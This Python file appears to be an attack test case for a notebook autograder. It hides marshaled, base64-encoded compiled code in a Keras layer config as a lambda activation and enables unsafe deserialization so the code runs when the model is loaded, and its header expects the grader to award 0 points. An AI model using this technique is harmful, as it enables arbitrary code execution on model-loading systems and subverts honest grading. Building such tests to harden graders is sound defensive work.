# attack: compiled code stands in a configuration, as Keras writes down a lambda, in the place of an activation
# gains: the grader
# expect: 0 points in check-1-3
# canary: output
# notebook: 01_dense_autoencoder
# %% exercise-1-3
# include: payload
# include: liar
import base64
import marshal


def build_autoencoder(code_size):
    code = base64.b64encode(marshal.dumps(compile(PAYLOAD, "<attack>", "exec"))).decode()
    hidden = {"class_name": "__lambda__", "config": {"value": [code, None, None], "code": code, "defaults": None}}
    unsafe = told("enable_unsafe_deserialization", module="keras.config")
    return liar(VECTOR, unsafe, told("Lambda", function=hidden), told("Dense", units=3, activation=hidden))
